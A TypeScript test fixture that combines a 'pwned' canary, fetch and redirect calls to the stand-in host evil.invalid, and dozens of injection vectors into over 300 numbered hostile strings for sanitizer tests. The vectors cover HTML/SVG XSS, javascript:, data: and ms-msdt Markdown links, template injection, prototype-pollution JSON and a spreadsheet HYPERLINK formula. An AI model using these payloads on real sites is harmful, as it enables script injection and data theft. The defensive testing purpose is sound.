/**
 * Texts that would run, load or lead somewhere if any of them ever became more than text. Made from parts, so that every way in meets
 * every thing to do; each is one line and carries its number, so that a finding says which one it was.
 */

/** What a payload tries to do. `pwned` is what the test listens for; `evil.invalid` is a host that must never be asked. */
const deeds = [
  (n: number) => `pwned(${n})`,
  (n: number) => `top.pwned&&top.pwned(${n})`,
  (n: number) => `fetch('//evil.invalid/${n}')`,
  (n: number) => `location='//evil.invalid/${n}'`,
];

/** Ways for a text to become markup with a script. */
const markup: ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `</script><script>${deed}//`,
  (deed) => `</title></textarea></style><script>${deed}</script>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<img src=x onerror=${deed}//`,
  (deed) => `'><img src=x onerror='${deed}'>`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
  (deed) => `<svg><foreignObject><iframe srcdoc="<script>${deed}</script>">`,
  (deed) => `<math><mtext><table><mglyph><style><img src=x onerror="${deed}">`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<details open ontoggle="${deed}">`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<video><source onerror="${deed}">`,
  (deed) => `<audio src=x onerror="${deed}">`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>">`,
  (deed) => `<iframe src="javascript:${deed}">`,
  (deed) => `<object data="javascript:${deed}">`,
  (deed) => `<embed src="javascript:${deed}">`,
  (deed) => `<a href="javascript:${deed}">click</a>`,
  (deed) => `<form action="javascript:${deed}"><button>go`,
  (deed) => `<base href="//evil.invalid/"><script src=x></script><i>${deed}</i>`,
  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  (deed) => `<style>@import '//evil.invalid/a.css';</style><b>${deed}</b>`,
  (deed) => `<link rel=stylesheet href="//evil.invalid/b.css"><b>${deed}</b>`,
  (deed) => `<template><script>${deed}</script></template>`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror='${deed}'>">`,
  (deed) => `<div style="background:url(//evil.invalid/c.png)">${deed}</div>`,
  (deed) => `<xmp><p title="</xmp><svg/onload=${deed}>">`,
  (deed) => `<a id=x tabindex=1 onfocus=${deed}></a>`,
  (deed) => `<marquee onstart="${deed}">`,
  (deed) => `<isindex type=image src=1 onerror="${deed}">`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `&#60;img src=x onerror=${deed}&#62;`,
  (deed) => `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
  (deed) => `%3Cscript%3E${deed}%3C/script%3E`,
  (deed) => `<scr<script>ipt>${deed}</scr</script>ipt>`,
  (deed) => `<ScRiPt\t>${deed}</sCrIpT\n>`.replace('\n', ''),
  (deed) => `<img/src=x/onerror=${deed}>`,
  (deed) => `\u0000<script>${deed}</script>`,
];

/** Ways for Markdown to become a link, a picture or markup. */
const markdown: ((deed: string) => string)[] = [
  (deed) => `[a](javascript:${deed})`,
  (deed) => `[a](JaVaScRiPt:${deed})`,
  (deed) => `[a](java\tscript:${deed})`,
  (deed) => `[a](javascript&colon;${deed})`,
  (deed) => `[a](&#106;avascript:${deed})`,
  (deed) => `[a](<javascript:${deed}>)`,
  (deed) => `[a](vbscript:${deed})`,
  (deed) => `[a](data:text/html,<script>${deed}</script>)`,
  (deed) => `[a](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+ "${deed}")`,
  (deed) => `[a](https://evil.invalid/?q=1 "x" onmouseover="${deed}")`,
  (deed) => `[a](file:///etc/passwd#${deed})`,
  (deed) => `[a](smb://evil.invalid/${deed})`,
  (deed) => `[a](ms-msdt:/id PCWDiagnostic ${deed})`,
  (deed) => `[a](https://user:pass@evil.invalid/${deed})`,
  (deed) => `![p](https://evil.invalid/p.png "${deed}")`,
  (deed) => `![p](javascript:${deed})`,
  (deed) => `![p](x" onerror="${deed})`,
  (deed) => `![p](data:image/svg+xml,<svg onload=${deed}>)`,
  (deed) => `<javascript:${deed}>`,
  (deed) => `<https://evil.invalid/${deed}>`,
  (deed) => `https://evil.invalid/"onmouseover="${deed}`,
  (deed) => `[r][1] [1]: javascript:${deed}`,
  (deed) => `\`\`\`html <script>${deed}</script> \`\`\``,
  (deed) => `| <img src=x onerror=${deed}> |`,
  (deed) => `# <svg onload=${deed}>`,
  (deed) => `> <iframe src=javascript:${deed}>`,
  (deed) => `- [ ] <input onfocus=${deed} autofocus>`,
  (deed) => `$$\\href{javascript:${deed}}{x}$$`,
  (deed) => `\`\`\`mermaid graph TD; A-->B; click A "javascript:${deed}" \`\`\``,
];

/** Ways for a template, a document format or a name to be taken for a program. */
const programs: ((deed: string) => string)[] = [
  (deed) => `{{constructor.constructor('${deed}')()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `#{${deed}}`,
  (deed) => `<%= ${deed} %>`,
  (deed) => `{process.exit()}{${deed}}`,
  (deed) => `import x from 'https://evil.invalid/x.js'; export default () => ${deed}`,
  (deed) => `javascript:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${deed}>"}}}`,
  (deed) => `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${deed}"}}`,
  (deed) => `[{"role":"user","content":[{"type":"text","text":"<img src=x onerror=${deed}>"}]}]`,
  (deed) => `{"type":"media","mimeType":"text/html","sha256":"${'a'.repeat(64)}","url":"javascript:${deed}"}`,
  (deed) => `{"type":"media","mimeType":"image/svg+xml","url":"//evil.invalid/${deed}.svg"}`,
  (deed) => `=HYPERLINK("https://evil.invalid/${deed}")`,
];

const ways = [...markup, ...markdown, ...programs];

/** At least 300, all different. */
export const hostileTexts: readonly string[] = deeds.flatMap((deed, d) =>
  ways.map((way, w) => `${way(deed(d * ways.length + w))} #${d * ways.length + w}`),
);
